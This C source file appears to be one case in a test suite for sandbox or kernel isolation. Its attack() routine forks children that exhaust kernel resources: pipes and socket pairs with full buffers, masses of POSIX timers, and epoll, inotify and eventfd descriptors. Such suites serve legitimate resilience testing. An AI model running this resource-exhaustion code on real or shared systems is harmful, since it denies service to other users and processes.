/* Makes pipes, sockets with full buffers, timers, watches and queues until the kernel gives no more. */
#define _GNU_SOURCE
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/socket.h>

#include "../../attack.h"

static void fill_pipes(void)
{
    static char block[1 << 16];
    int pair[2];
    for (int i = 0; i < 10000 && pipe2(pair, O_NONBLOCK) == 0; i++) {
        fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
        while (write(pair[1], block, sizeof block) > 0)
            ;
    }
}

static void fill_sockets(void)
{
    static char block[1 << 16];
    int pair[2];
    for (int i = 0; i < 10000 && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0;
         i++)
        while (write(pair[1], block, sizeof block) > 0)
            ;
}

static void make_timers(void)
{
    timer_t timer;
    struct sigevent event = {.sigev_notify = SIGEV_NONE};
    for (int i = 0; i < 100000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0; i++)
        ;
}

static void make_watches(void)
{
    for (int i = 0;
         i < 10000 && (epoll_create1(0) >= 0 || inotify_init() >= 0 || eventfd(0, 0) >= 0); i++)
        ;
}

static void attack(void)
{
    static void (*const floods[])(void) = {fill_pipes, fill_sockets, make_timers, make_watches};
    for (size_t i = 0; i < sizeof floods / sizeof floods[0]; i++) {
        pid_t child = fork();
        if (child == 0) {
            floods[i]();
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
}

ATTACK_THEN_NOTHING
